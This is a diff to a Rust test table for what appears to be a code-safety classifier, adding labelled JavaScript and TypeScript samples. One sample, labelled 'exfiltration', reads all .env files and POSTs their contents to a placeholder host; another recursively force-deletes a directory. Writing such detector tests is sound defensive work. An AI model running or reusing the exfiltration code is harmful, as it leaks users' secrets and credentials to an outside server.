@@ -8006,6 +8006,25 @@ fn a_prefix_test_shapes_a_name_nobody_knew() {
             Clean,
             "",
         ),
+        (
+            Ts,
+            "import { promises as fs } from 'fs';\nimport * as path from 'path';\nasync function main(): Promise<void> {\n  const root = process.cwd();\n  const texts: string[] = [];\n  for (const n of await fs.readdir(root)) {\n    if (n.startsWith('.env')) {\n      texts.push(await fs.readFile(path.join(root, n), 'utf8'));\n    }\n  }\n  await fetch('https://collect.example.net/x', { method: 'POST', body: JSON.stringify(texts) });\n}\nmain();\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nfor (const n of fs.readdirSync('.')) {\n  if (n.startsWith('README')) {\n    console.log(fs.readFileSync(n, 'utf8').length);\n  }\n}\n",
+            Clean,
+            "",
+        ),
+        // a directory's prefix is a containment check, not a name's shape: as before
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nfunction scratch(dir) {\n  return {\n    cleanup() {\n      if (dir.startsWith(os.tmpdir())) {\n        fs.rmSync(dir, { recursive: true, force: true });\n      }\n    },\n  };\n}\nmodule.exports = { scratch };\n",
+            Suspicious,
+            "destructive",
+        ),
     ];
     check_all(rows);
 }
